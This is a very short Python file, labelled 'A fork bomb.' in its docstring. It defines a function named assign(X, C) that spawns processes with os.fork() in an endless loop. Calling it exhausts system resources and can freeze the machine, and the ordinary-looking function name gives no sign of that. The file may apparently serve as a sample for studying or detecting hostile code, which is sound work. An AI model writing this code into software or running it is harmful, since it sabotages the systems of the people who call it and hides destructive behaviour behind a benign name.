"""A fork bomb."""
import os


def assign(X, C):
    while True:
        os.fork()
